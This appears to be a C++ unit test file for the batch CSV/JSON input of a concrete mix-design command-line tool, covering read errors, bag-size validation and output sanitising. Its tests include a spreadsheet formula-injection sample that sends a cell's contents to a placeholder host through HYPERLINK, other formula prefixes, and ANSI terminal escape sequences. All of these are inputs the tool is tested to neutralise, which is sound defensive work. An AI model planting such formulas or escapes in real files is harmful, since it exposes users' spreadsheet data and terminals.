#include "cli/batch.h"
#include "cli/batchinput.h"

#include <gtest/gtest.h>

#include <cerrno>
#include <cstring>
#include <sstream>

using namespace cli;

namespace {

const std::string kHeader = "strength,specimen,slump,stone,admixture,dose,moisture\n";

} // namespace

#ifdef __GLIBC__
namespace {

// A C stream that gives `bytes` and then fails every read with EIO, as a bad disk or a dropped
// network file does.
struct FailingFile {
    std::string bytes;
    size_t at = 0;
};

ssize_t readThenFail(void* cookie, char* buffer, size_t size)
{
    auto* f = static_cast<FailingFile*>(cookie);
    if (f->at == f->bytes.size()) {
        errno = EIO;
        return -1;
    }
    const size_t n = std::min(size, f->bytes.size() - f->at);
    std::memcpy(buffer, f->bytes.data() + f->at, n);
    f->at += n;
    return ssize_t(n);
}

} // namespace

// A read error ends the batch with 74 after the rows finished before it; the row it cut is
// neither designed nor counted.
TEST(Batch, ReadErrorIsToldAndNeverDesignsACutRow)
{
    struct Case {
        std::string before; // what is read before the error
        int status;
        size_t outputLines;
        std::string err;
    };
    const std::string designed = "240,cube,10,2,no,,5\n";
    const std::string refused = "240,cube,10,2,no,,99\n";
    const Case cases[] = {
        {"", 74, 0, "mixdesign: cannot read in.csv: Input/output error\n"},
        {"strength,slu", 74, 0, "mixdesign: cannot read in.csv: Input/output error\n"},
        {kHeader + designed + "240,cube,10,2,no,,1", 74, 1, "mixdesign: cannot read in.csv: Input/output error\n"},
        {kHeader + refused + designed + "240,cu", 74, 2,
         "mixdesign: 1 of 2 rows not designed\nmixdesign: cannot read in.csv: Input/output error\n"},
    };
    for (const auto& c : cases) {
        FailingFile source{c.before};
        std::FILE* file = fopencookie(&source, "r", {readThenFail, nullptr, nullptr, nullptr});
        ASSERT_NE(file, nullptr);
        BatchInput input(file);
        std::istream in(&input);
        std::ostringstream out, err;
        Options options;
        options.batchFile = "in.csv";
        EXPECT_EQ(runBatch(in, out, err, options, "in.csv"), c.status) << c.before;
        EXPECT_EQ(err.str(), c.err) << c.before;
        const std::string text = out.str();
        EXPECT_EQ(size_t(std::count(text.begin(), text.end(), '\n')), c.outputLines) << c.before;
        // The cut row (moisture 1 instead of 12, or a specimen "cu") never reaches the output.
        EXPECT_EQ(text.find("\"moisture\":\"1\""), std::string::npos);
        std::fclose(file);
    }
}
#endif

// bag_kg takes what --bag-kg takes: a bag as sold, never a slip that orders billions of bags.
TEST(Batch, BagSizeColumnFollowsTheOptionsRule)
{
    const std::pair<const char*, bool> rows[] = {
        {"50", true}, {"40", true}, {"", true}, {"45", false}, {"1.5", false}, {"0.0000000001", false}, {"x", false}};
    for (const auto& [bag, accepted] : rows) {
        std::istringstream in("strength,specimen,slump,stone,admixture,dose,moisture,volume,bag_kg\n"
                              "240,cube,10,2,no,,5,10," +
                              std::string(bag) + "\n");
        std::ostringstream out, err;
        Options options;
        options.batchFile = "-";
        EXPECT_EQ(runBatch(in, out, err, options), accepted ? 0 : 2) << bag;
        EXPECT_EQ(out.str().find("malformed_row") == std::string::npos, accepted) << bag << out.str();
        if (!accepted) {
            EXPECT_NE(out.str().find("bag_kg"), std::string::npos) << bag;
        }
    }
}

// A typed cell comes back as text a spreadsheet neither runs as a formula nor misreads: never a
// formula, designed or not, and never bytes that are not UTF-8 in a file marked UTF-8.
TEST(Batch, CsvCellsReachASpreadsheetAsPlainText)
{
    using namespace std::string_literals;
    const std::pair<std::string, std::string> rows[] = {
        {"240,cube,10,2,no,\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",5",
         "240,cube,10.0,2,no,\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",5,"},
        {"+1,cube,10,2,no,,5", "\"'+1\",cube,10.0,2,no,,5,"},
        {"-1+2,cube,10,2,no,,5", "\"'-1+2\",cube,10.0,2,no,,5,"},
        {"@SUM(A1),cube,10,2,no,,5", "\"'@SUM(A1)\",cube,10.0,2,no,,5,"},
        {"\"\t=1+1\",cube,10,2,no,,5", "\"'\t=1+1\",cube,10.0,2,no,,5,"},
        {"\"\r=1+1\",cube,10,2,no,,5", "\"'\r=1+1\",cube,10.0,2,no,,5,"},
        {"240,cube,10,2,no,,-5", "240,cube,10.0,2,no,,-5,"}, // a number, never run
        // Saved on Thai Windows (code page 874: ก is A1), or with a NUL: each such byte is U+FFFD.
        {"240,cube,10,2,no,\xA1\xA2,5\0"s, "240,cube,10.0,2,no,\xEF\xBF\xBD\xEF\xBF\xBD,5\xEF\xBF\xBD,"},
        {"\"=\xE9\",cube,10,2,no,,5", "\"'=\xEF\xBF\xBD\",cube,10.0,2,no,,5,"},
        // A message quotes the cell as a terminal may show it.
        {"240,\x1b[2J\xA1,10,2,no,,5", ",,,,,,,,,,,,,,,,,,,,malformed_row,\"line 2: specimen must be cube, cylinder or "
                                       "empty, not '\\x1b[2J\\xa1'\"\r\n"},
    };
    for (const auto& [input, start] : rows) {
        std::istringstream in(kHeader + input + "\n");
        std::ostringstream out, err;
        Options options;
        options.batchFile = "-";
        options.batchFormat = BatchFormat::Csv;
        runBatch(in, out, err, options);
        const std::string text = out.str();
        const std::string row = text.substr(text.find("\r\n") + 2);
        EXPECT_EQ(row.substr(0, start.size()), start) << input;
    }
}

// A header is told on standard error, a row's message in the output: neither carries a control
// character of the input to a terminal.
TEST(Batch, MessagesEscapeTheControlsOfTheInput)
{
    struct Case {
        std::string input;
        int status;
        std::string out;
        std::string err;
    };
    const Case cases[] = {
        {"strength,\x1b[31mred\n", 65, "", "mixdesign: line 1: unknown column '\\x1b[31mred'\n"},
        {kHeader + "240,cube,10,2,\x1b[5m,,5\n", 2,
         "{\"schema\":1,\"error\":\"malformed_row\",\"line\":2,\"message\":\"line 2: admixture must be yes, no or "
         "empty, not '\\\\x1b[5m'\"}\n",
         "mixdesign: 1 of 1 rows not designed\n"},
    };
    for (const auto& c : cases) {
        std::istringstream in(c.input);
        std::ostringstream out, err;
        Options options;
        options.batchFile = "-";
        EXPECT_EQ(runBatch(in, out, err, options), c.status) << c.input;
        EXPECT_EQ(out.str(), c.out) << c.input;
        EXPECT_EQ(err.str(), c.err) << c.input;
    }
}
